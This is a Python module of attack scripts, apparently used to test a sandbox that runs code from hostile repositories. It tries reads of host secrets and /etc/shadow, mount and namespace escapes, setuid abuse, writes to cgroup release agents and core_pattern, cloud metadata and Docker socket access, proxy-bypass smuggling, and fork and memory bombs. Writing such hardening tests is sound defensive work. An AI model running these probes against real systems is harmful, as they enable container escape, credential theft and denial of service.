# ruff: noqa: E501  (the scripts read better in long lines)
"""Attacks on a sandbox, as data: what a hostile repo's code tries. Each says `BEGUN` when it runs at all, and `THROUGH`
with a word when it got somewhere.

`python` and `bash` run as a step's command. In them @secret@ is a file on the host that no box may read, @pid@ a process
of the host, @port@ where a server of the host answers "reached" on every address, @addresses@ those addresses,
@abstract@ the name of an abstract socket of the host, @socket@ the path of another one, @canary@ the name of @pid@,
@environment@ a text in the worker's environment, @data@ its data folder, @passwd@ the checksum of its users' list,
@inside@ names that lead inside, and @memory@, @scratch@ and @pids@ what a box may use.
"""

from dataclasses import dataclass
from textwrap import dedent

BEGUN = "BEGUN"
PRELUDE = """
import ctypes, errno, glob, hashlib, os, re, resource, signal, socket, stat, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def through(what): print("THROUGH", what, flush=True)
def read(path, size=65536):
    try:
        with open(path, "rb") as file: return file.read(size)
    except OSError: return b""
def can_write(path, data=b"1"):
    try:
        file = os.open(path, os.O_WRONLY)
    except OSError: return False
    try: return os.write(file, data) > 0
    except OSError: return False
    finally: os.close(file)
def call(number, *arguments): return libc.syscall(number, *arguments)
def connects(address, port, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as client:
        client.settimeout(0.4)
        try:
            client.connect((address, port)); client.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); return bool(client.recv(100))
        except OSError: return False
"""
ASKING = """
import urllib.parse
proxy = urllib.parse.urlsplit(os.environ["https_proxy"])
def ask(text):
    with socket.create_connection((proxy.hostname, proxy.port), timeout=15) as client:
        client.settimeout(15)
        client.sendall(text.encode()); said = b""
        try:
            while len(said) < 65536 and (data := client.recv(4096)):
                said += data
                if said.startswith(b"HTTP/1.1 200") and said.endswith(b"\\r\\n\\r\\n"):
                    client.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        except OSError: pass
        return said
def connect(target, headers=""):
    return ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n{headers}\\r\\n")
"""


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    python: str = ""
    bash: str = ""
    box: str = "step"  # step: one box for all; own: a step box of its own; install; egress: an install box with egress
    timeout_s: float = 20.0
    on_the_host: bool = False  # run as it is on the host it does get through: so it is known to work
    leaves: str = ""  # words in the command lines of processes that must be gone when the command has ended

    def script(self, known: dict[str, object]) -> str:
        text = dedent(self.python or self.bash)
        for name, value in known.items():
            text = text.replace(f"@{name}@", str(value))
        if self.bash:
            return f"echo {BEGUN}\n{text}"
        asking = ASKING if self.box == "egress" else ""
        said = f'print("{BEGUN}", flush=True)\n'
        return f"python3 - <<'ATTACK'\n{PRELUDE}{asking}{said}{text}\nATTACK\n"


FILES = (
    Attack("a file of the host by its path", "files", "if read('@secret@'): through('read')", on_the_host=True),
    Attack(
        "through the root and folders of other processes",
        "files",
        """
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                for way in ("root", "cwd"):
                    if read(f"/proc/{pid}/{way}@secret@"): through(f"{pid}/{way}")
        """,
        on_the_host=True,
    ),
    Attack(
        "upwards out of the repo",
        "files",
        "if read('../' * 40 + '@secret@'.lstrip('/')): through('read')",
        on_the_host=True,
    ),
    Attack(
        "by a link in the repo",
        "files",
        """
        os.symlink("@secret@", "link"); os.symlink("/", "root-link")
        if read("link") or read("root-link@secret@"): through("read")
        """,
    ),
    Attack(
        "the host's passwords",
        "files",
        "if read('/etc/shadow') or hashlib.sha256(read('/etc/passwd')).hexdigest() == '@passwd@': through('read')",
        on_the_host=True,
    ),
    Attack(
        "the worker's data and home",
        "files",
        """
        for place in ("/root/.ssh", "/root/.config", "/root/.cache", "/home/step/../root", "/var/lib/docker", "/var/lib/postgresql", "/run/lock", "@data@"):
            try: found = os.listdir(place)
            except OSError: continue
            if found: through(place)
        """,
        on_the_host=True,
    ),
    Attack(
        "programs of the system written to",
        "files",
        """
        for place in ("/usr/bin/env", "/usr/lib/os-release", "/etc/passwd", "/lamplighter/step_runner.py", "/bin/sh"):
            if can_write(place, b""): through(place)
            try: os.rename(place, place + ".x"); through("renamed " + place)
            except OSError: pass
        for folder in ("/", "/usr", "/etc", "/base", "/base/repo", "/venv", "/venv/plain", "/sys", "/dev", "/var"):
            try: open(folder + "/left", "w").close(); through(folder)
            except OSError: pass
        """,
    ),
    Attack(
        "the environments of the repo changed in a step",
        "files",
        """
        for folder in ("/venv/plain", "/venv/test", "/base/repo"):
            for name in os.listdir(folder):
                try: os.chmod(f"{folder}/{name}", 0o777); through(f"{folder}/{name}")
                except OSError: pass
        """,
    ),
)

MOUNTS = (
    Attack(
        "mount",
        "mounts",
        """
        os.makedirs("/tmp/m", exist_ok=True)
        for kind, source in ((b"tmpfs", b"none"), (b"proc", b"proc"), (b"sysfs", b"sys"), (b"cgroup", b"c"), (b"debugfs", b"d"),
                             (b"overlay", b"o"), (b"devtmpfs", b"d"), (b"ext4", b"/dev/vda")):
            if libc.mount(source, b"/tmp/m", kind, 0, b"") == 0: through(kind.decode())
        """,
    ),
    Attack(
        "bind mounts and remounts",
        "mounts",
        """
        os.makedirs("/tmp/m2", exist_ok=True)
        if libc.mount(b"/", b"/tmp/m2", None, 4096, None) == 0: through("bind")
        for place in (b"/", b"/usr", b"/base", b"/venv", b"/proc", b"/sys/fs/cgroup"):
            if libc.mount(None, place, None, 32, None) == 0 and os.access(place, os.W_OK): through(place.decode())
        for place in (b"/base", b"/proc", b"/sys", b"/dev"):
            if libc.umount2(place, 2) == 0: through(place.decode())
        """,
    ),
    Attack(
        "the newer calls of mounting",
        "mounts",
        """
        for number, arguments in ((430, (b"tmpfs", 0)), (428, (-100, b"/", 1)), (442, (-100, b"/", 0, 0, 0))):
            if call(number, *arguments) >= 0: through(number)
        """,
    ),
    Attack(
        "chroot and pivot_root",
        "mounts",
        """
        os.makedirs("/tmp/c/d", exist_ok=True)
        here = os.open(".", os.O_RDONLY)
        try:
            os.chroot("/tmp/c"); os.fchdir(here); os.chdir("../" * 40); os.chroot("."); through("chroot")
        except OSError: pass
        if call(155, b"/tmp/c", b"/tmp/c/d") == 0: through("pivot_root")
        """,
    ),
    Attack(
        "files of the disk by their handles",
        "mounts",
        """
        handle = struct.pack("<IiQ", 8, 1, 2) + b"\\0" * 120
        for place in ("/", "/usr", "/etc/passwd", "/base", "/tmp"):
            try: at = os.open(place, os.O_RDONLY)
            except OSError: continue
            if call(304, at, handle, os.O_RDONLY) >= 0: through(place)
        """,
    ),
    Attack(
        "namespaces of one's own",
        "mounts",
        """
        for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000):
            if os.fork() == 0:
                if libc.unshare(0x10000000 | flag) == 0 or (libc.unshare(flag) == 0): through(hex(flag))
                os._exit(0)
            os.wait()
        """,
    ),
    Attack(
        "namespaces by their tools",
        "mounts",
        bash="""
        unshare -Ur true 2>/dev/null && echo THROUGH unshare
        unshare -rm mount -t tmpfs x /tmp 2>/dev/null && echo THROUGH mount
        bwrap --ro-bind / / true 2>/dev/null && echo THROUGH bwrap
        nsenter -t 1 -a true 2>/dev/null && echo THROUGH nsenter
        true
        """,
    ),
    Attack(
        "clone with new namespaces",
        "mounts",
        """
        for flags in (0x10000000 | 17, 0x20000000 | 17, 0x00020000 | 17):
            child = call(56, flags, 0, 0, 0, 0)
            if child == 0: os._exit(0)
            if child > 0: through(hex(flags))
        arguments = struct.pack("<11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
        child = call(435, arguments, len(arguments))
        if child == 0: os._exit(0)
        if child > 0: through("clone3")
        """,
    ),
    Attack(
        "the namespaces of others",
        "mounts",
        """
        for path in glob.glob("/proc/[0-9]*/ns/*"):
            try: found = os.open(path, os.O_RDONLY)
            except OSError: continue
            if os.readlink(path) != os.readlink("/proc/self/ns/" + os.path.basename(path)): through("other " + path)
            if call(308, found, 0) == 0 and not path.endswith("user"): through(path)
        """,
    ),
)

DEVICES = (
    Attack(
        "devices of the host",
        "devices",
        """
        for name in ("mem", "kmem", "port", "kmsg", "sda", "vda", "vda1", "nvme0n1", "xvda", "dm-0", "loop-control", "loop0",
                     "fuse", "net/tun", "kvm", "vhost-net", "mapper/control", "uinput", "input/event0", "snd/timer", "hpet"):
            try: os.close(os.open("/dev/" + name, os.O_RDONLY)); through(name)
            except OSError: pass
        """,
    ),
    Attack(
        "devices of one's own making",
        "devices",
        """
        for folder in ("/tmp", "/job/repo", "/home/step", "/dev/shm"):
            for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1)):
                try:
                    os.mknod(f"{folder}/node{major}{minor}", kind | 0o666, os.makedev(major, minor))
                    through(f"{folder} {major}:{minor}")
                except OSError: pass
        """,
    ),
    Attack(
        "the terminal of the worker",
        "devices",
        """
        import fcntl
        for stream in (0, 1, 2):
            try: fcntl.ioctl(stream, 0x5412, b"x"); through("typed into it")
            except OSError: pass
        try: os.open("/dev/tty", os.O_RDWR); through("/dev/tty")
        except OSError: pass
        """,
    ),
)

RIGHTS = (
    Attack(
        "user ids taken",
        "rights",
        """
        for take in (os.setuid, os.setgid, os.seteuid, os.setegid):
            for number in (0, 1, 70607):
                try: take(number); through(f"{take.__name__} {number}")
                except OSError: pass
        try: os.setgroups([0]); through("setgroups")
        except OSError: pass
        """,
    ),
    Attack(
        "setuid programs of the system",
        "rights",
        bash="""
        for program in su sudo mount umount passwd newgrp chsh pkexec ping fusermount fusermount3 newuidmap; do
            path=$(command -v $program) || continue
            case $program in
                su) $path -c id root </dev/null 2>/dev/null | grep -q 'uid=0' && echo THROUGH su ;;
                sudo) $path -n id 2>/dev/null | grep -q 'uid=0' && echo THROUGH sudo ;;
                pkexec) $path id 2>/dev/null | grep -q 'uid=0' && echo THROUGH pkexec ;;
                mount) $path -t tmpfs x /tmp 2>/dev/null && echo THROUGH mount ;;
                newuidmap) $path $$ 0 0 1 2>/dev/null && echo THROUGH newuidmap ;;
            esac
        done
        true
        """,
    ),
    Attack(
        "a setuid file of one's own",
        "rights",
        bash="""
        for place in /tmp /job/repo /home/step /dev/shm; do
            cp /usr/bin/id $place/own-id && chmod 6755 $place/own-id && $place/own-id | grep -q '=0(' && echo THROUGH $place
            chown 0:0 $place/own-id 2>/dev/null && echo THROUGH chown
            setcap cap_sys_admin+ep $place/own-id 2>/dev/null && echo THROUGH setcap
        done
        /venv/plain/bin/suid 2>/dev/null | grep -q 'euid=' && echo THROUGH left in a volume
        true
        """,
    ),
    Attack(
        "capabilities",
        "rights",
        """
        text = read("/proc/self/status").decode()
        for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
            if int(re.search(name + r":\\s*([0-9a-f]+)", text)[1], 16): through(name)
        if re.search(r"NoNewPrivs:\\s*0", text): through("new privileges may be gained")
        for one in range(41):
            if libc.prctl(47, 2, one, 0, 0) == 0: through(f"ambient {one}")
        """,
        on_the_host=True,
    ),
    Attack(
        "calls for administrators",
        "rights",
        """
        for number, arguments in ((172, (3,)), (173, (0x80, 1, 1)), (170, (b"x", 1)), (171, (b"x", 1)), (163, (b"/tmp/acct",)),
                                  (167, (b"/tmp/swap", 0)), (164, (struct.pack("<2q", 0, 0), 0)), (227, (0, struct.pack("<2q", 1, 1))),
                                  (103, (5, 0, 0)), (161, (b"/",)), (159, (b"\\0" * 208,))):
            if call(number, *arguments) == 0 and number != 159: through(number)
        """,
    ),
    Attack(
        "modules, other kernels, a reboot",
        "rights",
        """
        image = os.open("/proc/self/exe", os.O_RDONLY)
        for number, arguments in ((175, (b"x", 1, b"")), (313, (image, b"", 0)), (246, (0, 0, 0, 0)), (320, (image, -1, 0, 0, 0)),
                                  (169, (0xFEE1DEAD, 672274793, 0x89ABCDEF, 0))):
            if call(number, *arguments) == 0: through(number)
        """,
    ),
    Attack(
        "calls through which kernels were broken",
        "rights",
        """
        for number, arguments in ((321, (0, b"\\0" * 128, 128)), (298, (b"\\0" * 128, 0, -1, -1, 0)), (323, (0,)),
                                  (425, (8, b"\\0" * 120)), (248, (b"user", b"x", b"y", 1, -3)), (250, (0, -3, 0)),
                                  (249, (b"user", b"x", 0, -3)), (300, (0, 0)), (280, (0, 0, 0, 0))):
            if call(number, *arguments) >= 0 and number != 280: through(number)
        """,
    ),
    Attack(
        "calls of another architecture",
        "rights",
        """
        import mmap
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # getpid by int 0x80
        ask = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
        if os.fork() == 0:
            if ask() == os.getpid(): through("int 0x80")
            os._exit(0)
        os.wait()
        """,
    ),
    Attack(
        "limits raised",
        "rights",
        """
        for name in ("NOFILE", "FSIZE", "CORE"):
            limit = getattr(resource, "RLIMIT_" + name); soft, hard = resource.getrlimit(limit)
            if hard != resource.RLIM_INFINITY:
                try: resource.setrlimit(limit, (hard + 1, hard + 1)); through(name)
                except (OSError, ValueError): pass
        try: os.nice(-5); through("nice")
        except OSError: pass
        try: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)); through("real time")
        except OSError: pass
        if can_write("/proc/self/oom_score_adj", b"-1000"): through("spared when memory runs out")
        """,
    ),
    Attack(
        "memory that is never given back",
        "rights",
        """
        resource.setrlimit(resource.RLIMIT_MEMLOCK, (resource.getrlimit(resource.RLIMIT_MEMLOCK)[1],) * 2)
        block = ctypes.create_string_buffer(200 << 20)
        if libc.mlock(block, 200 << 20) == 0: through("locked 200 MiB")
        """,
    ),
)

PROCESSES = (
    Attack(
        "processes of the host seen",
        "processes",
        """
        if os.path.exists("/proc/@pid@/cmdline") and b"@canary@" in read("/proc/@pid@/cmdline"): through("seen")
        if len([one for one in os.listdir("/proc") if one.isdigit()]) > 40: through("many")
        """,
        on_the_host=True,
    ),
    Attack(
        "processes of the host killed",
        "processes",
        """
        for number in (@pid@, 1, 2):
            for code in (signal.SIGTERM, signal.SIGKILL):
                try: os.kill(number, code)
                except OSError: pass
        """,
        box="own",
    ),
    # It may be the end of its box, and output is shown once a second: what it says must be out by then.
    Attack("everybody killed", "processes", bash="sleep 2; kill -9 -1; sleep 0.2", box="own"),
    Attack(
        "the step runner read and traced",
        "processes",
        """
        mine = os.getpid()
        for pid in (int(one) for one in os.listdir("/proc") if one.isdigit()):
            if pid in (mine, os.getppid()) or b"step_runner" not in read(f"/proc/{pid}/cmdline"): continue
            if read(f"/proc/{pid}/environ") or read(f"/proc/{pid}/maps"): through("read")
            try: os.open(f"/proc/{pid}/mem", os.O_RDWR); through("memory opened")
            except OSError: pass
            if libc.ptrace(16, pid, 0, 0) == 0: through("traced")
            for path in glob.glob(f"/proc/{pid}/fd/*"):
                try: os.close(os.open(path, os.O_RDWR)); through(path)
                except OSError: pass
            handle = call(434, pid, 0)
            if handle >= 0 and call(438, handle, 0, 0) >= 0: through("descriptor taken")
        """,
    ),
    Attack(
        "a forged answer of the step runner",
        "processes",
        """
        frame = struct.pack(">IB", 60, 3) + b'{"exit": 0, "seconds": 0.1, "forged": true}'
        for pid in (int(one) for one in os.listdir("/proc") if one.isdigit()):
            for path in glob.glob(f"/proc/{pid}/fd/1"):
                if pid not in (os.getpid(), os.getppid()) and can_write(path, frame): through(path)
        """,
    ),
    Attack(
        "the worker's environment",
        "processes",
        """
        for path in glob.glob("/proc/[0-9]*/environ"):
            if b"@environment@" in read(path): through(path)
        if "@environment@" in str(os.environ): through("handed on")
        """,
    ),
    Attack(
        "descriptors handed on",
        "processes",
        """
        for number in range(3, 4096):
            try: os.fstat(number); through(number)
            except OSError: pass
        """,
    ),
)

KERNEL = (
    Attack(
        "switches of the kernel",
        "kernel",
        """
        for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory",
                     "/proc/sys/kernel/hostname", "/proc/sys/kernel/yama/ptrace_scope", "/proc/sys/net/ipv4/ip_forward",
                     "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run",
                     "/proc/irq/default_smp_affinity", "/proc/mtrr", "/proc/acpi/wakeup", "/proc/scsi/scsi", "/proc/bus/pci/00"):
            if can_write(path, b"0"): through(path)
        """,
    ),
    Attack(
        "cgroups and their release agents",
        "kernel",
        """
        for path in glob.glob("/sys/fs/cgroup/**", recursive=True)[:3000]:
            name = os.path.basename(path)
            if name in ("release_agent", "notify_on_release", "cgroup.procs", "tasks", "memory.max", "memory.limit_in_bytes",
                        "pids.max", "cpuset.cpus", "cgroup.subtree_control", "devices.allow"):
                if can_write(path, b"0"): through(path)
        try: os.mkdir("/sys/fs/cgroup/mine"); through("made one")
        except OSError: pass
        """,
    ),
    Attack(
        "what the kernel tells to administrators only",
        "kernel",
        """
        if read("/proc/kcore", 64): through("kcore")
        if re.search(rb"^(?!0{8,})[0-9a-f]{8,} T ", read("/proc/kallsyms"), re.M): through("kallsyms")
        if call(103, 3, ctypes.create_string_buffer(4096), 4096) > 0: through("its log")
        for path in ("/sys/firmware/dmi/tables/DMI", "/sys/kernel/debug/tracing/trace", "/proc/keys", "/proc/timer_list",
                     "/sys/kernel/security/lockdown", "/proc/config.gz", "/sys/fs/pstore", "/proc/vmallocinfo"):
            if path == "/proc/keys" and not read(path).strip(): continue
            if path not in ("/proc/config.gz",) and read(path, 64): through(path)
        """,
        on_the_host=True,
    ),
    Attack(
        "name and domain of the host",
        "kernel",
        """
        if libc.sethostname(b"mine", 4) == 0: through("hostname")
        if libc.setdomainname(b"mine", 4) == 0: through("domain")
        """,
    ),
    Attack(
        "queues and memory shared with the host",
        "kernel",
        """
        for key in range(1, 40):
            if libc.shmget(key, 0, 0) >= 0: through(f"memory {key}")
        if os.path.isdir("/dev/mqueue") and os.listdir("/dev/mqueue"): through("queues")
        shared = [name for name in os.listdir("/dev/shm") if "@canary@" in name]
        if shared: through("/dev/shm")
        """,
    ),
)

NETWORK = (
    Attack(
        "the host by any of its addresses",
        "network",
        """
        for address in @addresses@:
            if connects(address, @port@): through(address)
        """,
        timeout_s=60,
        on_the_host=True,
    ),
    Attack(
        "the host by its loopback",
        "network",
        """
        for address in ("127.0.0.1", "127.1.2.3", "0.0.0.0"):
            if connects(address, @port@): through(address)
        if connects("::1", @port@, socket.AF_INET6): through("::1")
        """,
        on_the_host=True,
    ),
    Attack(
        "gateways and bridges as engines have them",
        "network",
        """
        for address in ("172.17.0.1", "172.18.0.1", "10.0.2.2", "10.0.0.1", "192.168.0.1", "192.168.65.2", "192.168.122.1", "100.64.0.1"):
            for number in (@port@, 2375, 8750):
                if connects(address, number): through(f"{address}:{number}")
        """,
        timeout_s=60,
    ),
    Attack(
        "metadata of clouds",
        "network",
        """
        for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192"):
            if connects(address, 80): through(address)
        if connects("fd00:ec2::254", 80, socket.AF_INET6): through("fd00:ec2::254")
        for name in ("metadata.google.internal", "metadata", "instance-data"):
            try: socket.getaddrinfo(name, 80); through(name)
            except OSError: pass
        """,
        timeout_s=30,
    ),
    Attack(
        "names looked up, and data in them",
        "network",
        """
        question = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x03org\\x00\\x00\\x01\\x00\\x01"
        for server in ("127.0.0.53", "127.0.0.11", "1.1.1.1", "8.8.8.8", *@addresses@):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.settimeout(0.3)
                try: client.sendto(question, (server, 53)); client.recv(512); through(server)
                except OSError: pass
        for name in ("example.org", "pypi.org", "host.docker.internal", "postgres", "redis"):
            try: socket.getaddrinfo(name, 80); through(name)
            except OSError: pass
        """,
        timeout_s=40,
    ),
    Attack(
        "by the other protocol",
        "network",
        """
        for family, address in ((socket.AF_INET6, "2001:4860:4860::8888"), (socket.AF_INET6, "ff02::1"), (socket.AF_INET, "224.0.0.1"),
                                (socket.AF_INET, "255.255.255.255")):
            with socket.socket(family, socket.SOCK_DGRAM) as client:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                try: client.sendto(b"x", (address, 5353)); through(address)
                except OSError: pass
        """,
    ),
    Attack(
        "raw packets and rarer families",
        "network",
        """
        families = {"packet": (17, 3), "raw": (2, 3), "raw6": (10, 3), "alg": (38, 5), "vsock": (40, 1), "bluetooth": (31, 3), "can": (29, 3),
                    "tipc": (30, 1), "xdp": (44, 3), "nfc": (39, 1), "key": (15, 3), "rds": (21, 5), "phonet": (35, 2), "smc": (43, 1)}
        for name, (family, kind) in families.items():
            try: socket.socket(family, kind, 1 if name == "raw" else 0).close(); through(name)
            except OSError: pass
        """,
        on_the_host=True,
    ),
    Attack(
        "an interface of one's own",
        "network",
        """
        import fcntl
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
            for request, flags in ((0x8914, 0x1), (0x8916, 0x2)):
                wish = struct.pack("16sH14s", b"lo", flags, b"")
                try:
                    if request == 0x8914: wish = struct.pack("16sH14s", b"dummy0", 0x41, b"")
                    fcntl.ioctl(any_socket, request, wish); through(hex(request))
                except OSError: pass
        subprocess.run("ip link add dummy7 type dummy 2>/dev/null && echo THROUGH dummy", shell=True)
        """,
    ),
    Attack(
        "abstract sockets of the host",
        "network",
        """
        with socket.socket(socket.AF_UNIX) as client:
            try: client.connect("\\0@abstract@"); through("connected")
            except OSError: pass
        """,
        on_the_host=True,
    ),
    Attack(
        "sockets of engines, buses and databases",
        "network",
        """
        for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
                     "/run/dbus/system_bus_socket", "/run/systemd/private", "/var/run/postgresql/.s.PGSQL.5432", "@socket@"):
            with socket.socket(socket.AF_UNIX) as client:
                try: client.connect(path); through(path)
                except OSError: pass
        """,
        on_the_host=True,
    ),
    Attack(
        "the proxy of installations in a step",
        "network",
        """
        for name, value in os.environ.items():
            if "proxy" in name.lower() and value: through(name)
        for port in range(1024, 1100):
            if connects("127.0.0.1", port): through(port)
        """,
    ),
)

EGRESS = (
    Attack(
        "hosts that are not on the list",
        "egress",
        """
        for target in ("example.org:443", "evil.localhost.example:@port@", "xlocalhost:@port@", "localhost.evil.example:@port@"):
            if connect(target).startswith(b"HTTP/1.1 200"): through(target)
        """,
        box="egress",
        timeout_s=90,
    ),
    Attack(
        "addresses instead of names",
        "egress",
        """
        for host in ("127.0.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "0", "[::]",
                     "169.254.169.254", "0251.0376.0251.0376", "127.0.0.1.", "[fe80::1%25lo]"):
            if connect(f"{host}:@port@").startswith(b"HTTP/1.1 200"): through(host)
        """,
        box="egress",
        timeout_s=90,
    ),
    Attack(
        "other ports of an allowed host",
        "egress",
        """
        for number in (22, 80, 443, 2375, 5432, 6379, 8750, 1, 65535, 65536 + @port@):
            if connect(f"localhost:{number}").startswith(b"HTTP/1.1 200"): through(number)
        """,
        box="egress",
        timeout_s=90,
    ),
    Attack(
        "a name that leads inside",
        "egress",
        """
        for name in (*@inside@, "inside.invalid"):
            if connect(f"{name}:@port@").startswith(b"HTTP/1.1 200"): through(name)
        if connect("inside.invalid:443").startswith(b"HTTP/1.1 200"): through("inside.invalid")
        if connect("metadata.google.internal:80").startswith(b"HTTP/1.1 200"): through("metadata")
        """,
        box="egress",
        timeout_s=60,
    ),
    Attack(
        "requests that are no tunnels",
        "egress",
        """
        for line in ("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", "GET http://localhost:@port@/ HTTP/1.1", "GET / HTTP/1.1",
                     "POST http://localhost:@port@/ HTTP/1.1", "OPTIONS * HTTP/1.1", "connect localhost:@port@ HTTP/1.1"):
            said = ask(line + "\\r\\nHost: localhost:@port@\\r\\n\\r\\n")
            if b"reached" in said or said.startswith(b"HTTP/1.1 200"): through(line)
        """,
        box="egress",
        timeout_s=60,
    ),
    Attack(
        "two meanings in one request",
        "egress",
        """
        for target in ("localhost@example.org:443", "example.org:443#localhost:@port@", "localhost:@port@@example.org:443",
                       "example.org:443\\thost", "localhost\\0.example.org:443", "localhost%00.example.org:443", "localhost:@port@/../example.org:443"):
            if connect(target, "X: y\\r\\n").startswith(b"HTTP/1.1 200"): through(target)
        said = ask("CONNECT example.org:443 HTTP/1.1\\r\\nHost: localhost:@port@\\r\\n\\r\\nCONNECT 127.0.0.1:@port@ HTTP/1.1\\r\\n\\r\\n")
        if b" 200 " in said: through("a second request")
        """,
        box="egress",
        timeout_s=90,
    ),
    Attack(
        "more bytes than a step may move",
        "egress",
        """
        moved = 0
        for _ in range(40):
            with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as client:
                client.sendall(b"CONNECT localhost:@port@ HTTP/1.1\\r\\n\\r\\n")
                try:
                    if b" 200 " not in client.recv(4096): break
                    client.sendall(b"x" * 60_000); moved += 60_000; client.recv(4096)
                except OSError: break
        if moved > 2_000_000: through(moved)
        """,
        box="egress",
        timeout_s=90,
    ),
    Attack(
        "a head without end",
        "egress",
        """
        with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as client:
            sent = 0
            try:
                for _ in range(400):
                    client.sendall(b"X: " + b"y" * 4096 + b"\\r\\n"); sent += 4099
            except OSError: pass
            client.settimeout(5)
            try:
                while data := client.recv(4096):
                    if b" 200 " in data: through("200")
            except OSError: pass
        """,
        box="egress",
        timeout_s=60,
    ),
)

BOMBS = (
    Attack(
        "forks without end",
        "bombs",
        """
        made = 0
        try:
            while made < 2000:
                if os.fork() == 0: time.sleep(30); os._exit(0)
                made += 1
        except OSError: pass
        if made > @pids@ + 8: through(made)
        """,
        box="own",
        timeout_s=25,
    ),
    Attack(
        "forks of forks", "bombs", bash="bomb() { bomb | bomb & }; bomb 2>/dev/null; sleep 2", box="own", timeout_s=12
    ),
    Attack(
        "threads without end",
        "bombs",
        """
        threading.stack_size(65536); made = 0
        try:
            while made < 2000:
                threading.Thread(target=time.sleep, args=(20,), daemon=True).start(); made += 1
        except RuntimeError: pass
        if made > @pids@ + 8: through(made)
        os._exit(0)
        """,
        box="own",
        timeout_s=25,
    ),
    Attack(
        "memory without end",
        "bombs",
        """
        kept = []
        for number in range(1, 200):
            kept.append(bytearray(os.urandom(1) * (16 << 20)))
            if number * 16 << 20 > 2 * @memory@: through(number); break
        """,
        box="own",
        timeout_s=25,
    ),
    Attack(
        "memory in files without names",
        "bombs",
        """
        kept = []
        for number in range(1, 200):
            file = os.memfd_create(str(number)); kept.append(file)
            os.write(file, b"x" * (16 << 20))
            if number * 16 << 20 > 2 * @memory@: through(number); break
        """,
        box="own",
        timeout_s=25,
    ),
    Attack(
        "every writable place filled",
        "bombs",
        """
        total = 0
        for folder in ("/tmp", "/job/repo", "/home/step", "/dev/shm", "/var/tmp", "/run", "/dev"):
            try:
                with open(folder + "/filler", "wb", buffering=0) as file:
                    while total < 4 * @scratch@: total += file.write(b"x" * (1 << 20))
            except OSError: pass
        if total > 2 * @scratch@: through(total)
        """,
        box="own",
        timeout_s=30,
    ),
    Attack(
        "files without end",
        "bombs",
        """
        made = 0
        try:
            while made < 150_000:
                os.close(os.open(f"/tmp/{made}", os.O_CREAT)); made += 1
        except OSError: pass
        """,
        box="own",
        timeout_s=15,
    ),
    Attack(
        "volumes filled by an installation",
        "bombs",
        """
        total = 0
        try:
            with open("/venv/plain/filler", "wb", buffering=0) as file:
                while total < 20 * @scratch@: total += file.write(b"x" * (1 << 20)); time.sleep(0.01)
        except OSError: pass
        if total > 10 * @scratch@: through(total)
        """,
        box="install",
        timeout_s=60,
    ),
    Attack(
        "a single file larger than everything allowed",
        "bombs",
        """
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        with open("/tmp/sparse", "wb") as file:
            try: os.truncate("/tmp/sparse", 1 << 40); through("truncated")
            except OSError: pass
        """,
    ),
    Attack(
        "output without end", "bombs", bash="yes 'all work and no play' & yes >&2 & sleep 2", box="own", timeout_s=8
    ),
    Attack("one line without end", "bombs", bash="timeout 2 tr '\\0' 'x' </dev/zero", box="own", timeout_s=8),
    Attack(
        "descriptors without end",
        "bombs",
        """
        kept = []
        try:
            while len(kept) < 100_000: kept.append(os.dup(1))
        except OSError: pass
        if len(kept) > 20_000: through(len(kept))
        """,
        box="own",
    ),
    Attack(
        "folders without bottom",
        "bombs",
        """
        here = os.open("/tmp", os.O_RDONLY)
        for _ in range(3000):
            try: os.mkdir("d", dir_fd=here); new = os.open("d", os.O_RDONLY, dir_fd=here)
            except OSError: break
            os.close(here); here = new
        """,
        box="own",
    ),
    Attack(
        "a loop that hears no signal",
        "bombs",
        bash="trap '' TERM INT HUP QUIT; while :; do :; done",
        box="own",
        timeout_s=3,
    ),
    Attack(
        "children that leave and stay",
        "bombs",
        bash="""
        for n in 1 2 3 4 5; do setsid sleep 3333 & done
        python3 -c 'import os,time
        os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); time.sleep(3333)' &
        echo left
        """,
        leaves="3333",
    ),
)

ALL = (*FILES, *MOUNTS, *DEVICES, *RIGHTS, *PROCESSES, *KERNEL, *NETWORK, *EGRESS, *BOMBS)
